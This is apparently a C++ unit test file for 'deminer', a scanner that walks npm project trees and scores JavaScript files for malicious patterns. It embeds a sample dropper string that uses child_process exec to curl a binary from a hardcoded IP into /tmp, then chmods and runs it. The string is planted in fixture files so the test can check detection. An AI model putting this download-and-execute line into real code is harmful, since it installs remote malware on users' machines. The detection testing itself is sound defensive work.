#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "checks/npm_collect.h"
#include "core/test_dir.h"
#include "match/js_heuristics.h"
#include "match/test_rules.h"

namespace deminer {
namespace {

namespace fs = std::filesystem;

constexpr std::string_view kDropper =
    "const { exec } = require('child_process');\n"
    "exec('curl -s -o /tmp/dbus_daemon http://45.137.21.9/d; chmod 755 /tmp/dbus_daemon; "
    "/tmp/dbus_daemon');\n";

void Write(const std::string& path, std::string_view text) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path, std::ios::binary) << text;
}

const JsFileScore* Find(const Facts& f, const std::string& path) {
  for (const JsFileScore& js : f.js_files) {
    if (js.path == path) return &js;
  }
  return nullptr;
}

// A project tree: node_modules (a scoped and a plain package), .next
// (server, standalone with its own node_modules), dist, and files that must
// not be read (source maps, .d.ts, the project's own sources).
class JsCollectTest : public testing::Test {
 protected:
  void SetUp() override {
    const std::string p = dir_ / "app";
    Write(p + "/package.json", R"({"name":"app","version":"1.0.0"})");
    Write(p + "/node_modules/left-pad/package.json", R"({"name":"left-pad","version":"1.3.0"})");
    Write(p + "/node_modules/left-pad/index.js",
          std::string("module.exports=1;\n") + std::string(kDropper));
    Write(p + "/node_modules/@acme/util/package.json",
          R"({"name":"@acme/util","version":"2.0.1"})");
    Write(p + "/node_modules/@acme/util/lib/esm/package.json", R"({"type":"module"})");
    Write(p + "/node_modules/@acme/util/lib/esm/x.mjs", kDropper);
    Write(p + "/node_modules/@acme/util/lib/clean.cjs", "module.exports = () => 42;\n");
    Write(p + "/node_modules/@acme/util/lib/x.js.map", kDropper);
    Write(p + "/node_modules/@acme/util/lib/x.d.ts", kDropper);
    Write(p + "/.next/server/chunks/42.js", kDropper);
    Write(p + "/.next/standalone/node_modules/left-pad/package.json",
          R"({"name":"left-pad","version":"1.3.0"})");
    Write(p + "/.next/standalone/node_modules/left-pad/index.js", kDropper);
    Write(p + "/dist/bundle.cjs", kDropper);
    Write(p + "/src/own.js", kDropper);  // the project's sources: not this check's
    project_ = p;
  }

  Facts Collect(std::vector<std::string> paths, std::vector<NpmProject> projects = {}) {
    ScanOptions options;
    options.paths = std::move(paths);
    options.threads = 2;
    Facts facts;
    facts.npm_projects = std::move(projects);
    CollectJsCode(options, DefaultRules(), facts);
    return facts;
  }

  TestDir dir_;
  std::string project_;
};

TEST_F(JsCollectTest, ProjectPathReadsNodeModulesBuildAndBundles) {
  const Facts f = Collect({project_});
  // index.js, x.mjs, clean.cjs, 42.js, standalone index.js, bundle.cjs.
  EXPECT_EQ(f.js_files_read, 6U);
  ASSERT_EQ(f.js_files.size(), 5U);
  const JsFileScore* a = Find(f, project_ + "/node_modules/left-pad/index.js");
  ASSERT_NE(a, nullptr);
  EXPECT_EQ(a->area, "node_modules");
  EXPECT_EQ(a->package, "left-pad@1.3.0");
  EXPECT_GE(a->score, JsHeuristics::kReportScore);
  EXPECT_EQ(a->size, 18U + kDropper.size());
  EXPECT_EQ(a->sha256.size(), 64U);
  EXPECT_FALSE(a->signals.empty());
  const JsFileScore* b = Find(f, project_ + "/node_modules/@acme/util/lib/esm/x.mjs");
  ASSERT_NE(b, nullptr);
  EXPECT_EQ(b->package, "@acme/util@2.0.1");  // the package's, not lib/esm/package.json
  const JsFileScore* c = Find(f, project_ + "/.next/server/chunks/42.js");
  ASSERT_NE(c, nullptr);
  EXPECT_EQ(c->area, "build");
  EXPECT_TRUE(c->package.empty());
  const JsFileScore* d = Find(f, project_ + "/.next/standalone/node_modules/left-pad/index.js");
  ASSERT_NE(d, nullptr);
  EXPECT_EQ(d->area, "node_modules");
  EXPECT_EQ(d->package, "left-pad@1.3.0");
  const JsFileScore* e = Find(f, project_ + "/dist/bundle.cjs");
  ASSERT_NE(e, nullptr);
  EXPECT_EQ(e->area, "bundle");
  EXPECT_EQ(Find(f, project_ + "/src/own.js"), nullptr);
}

TEST_F(JsCollectTest, ProjectsAreWalkedOnceAndNamed) {
  NpmProject proj;
  proj.dir = project_;
  proj.display = "app in " + project_;
  proj.node_modules = project_ + "/node_modules";
  // The PATH and the project's dirs overlap: every file is read once.
  const Facts f = Collect({project_, project_ + "/node_modules"}, {proj});
  EXPECT_EQ(f.js_files_read, 6U);
  EXPECT_EQ(f.js_files.size(), 5U);
  for (const JsFileScore& js : f.js_files) EXPECT_EQ(js.project, proj.display) << js.path;
  // Without a PATH, the project's node_modules and build dirs are found.
  const Facts g = Collect({}, {proj});
  EXPECT_EQ(g.js_files_read, 6U);
  EXPECT_EQ(g.js_files.size(), 5U);
}

TEST_F(JsCollectTest, SpecialDirAndSingleFileAsPath) {
  const Facts f = Collect({project_ + "/dist", project_ + "/src/own.js"});
  EXPECT_EQ(f.js_files_read, 2U);
  ASSERT_EQ(f.js_files.size(), 2U);
  EXPECT_NE(Find(f, project_ + "/dist/bundle.cjs"), nullptr);
  const JsFileScore* own = Find(f, project_ + "/src/own.js");
  ASSERT_NE(own, nullptr);
  EXPECT_EQ(own->area, "bundle");
}

TEST_F(JsCollectTest, MissingPathIsQuietAndBigFilesAreGaps) {
  Write(project_ + "/dist/huge.js", std::string(2048, 'x'));
  ScanOptions options;
  options.paths = {project_ + "/dist", dir_ / "nope"};
  options.max_content_bytes = 1024;
  Facts facts;
  CollectJsCode(options, DefaultRules(), facts);
  EXPECT_EQ(facts.js_files_read, 1U);  // bundle.cjs
  ASSERT_EQ(facts.gaps.size(), 1U);
  EXPECT_NE(facts.gaps[0].reason.find("larger than 1024"), std::string::npos)
      << facts.gaps[0].reason;
}

}  // namespace
}  // namespace deminer
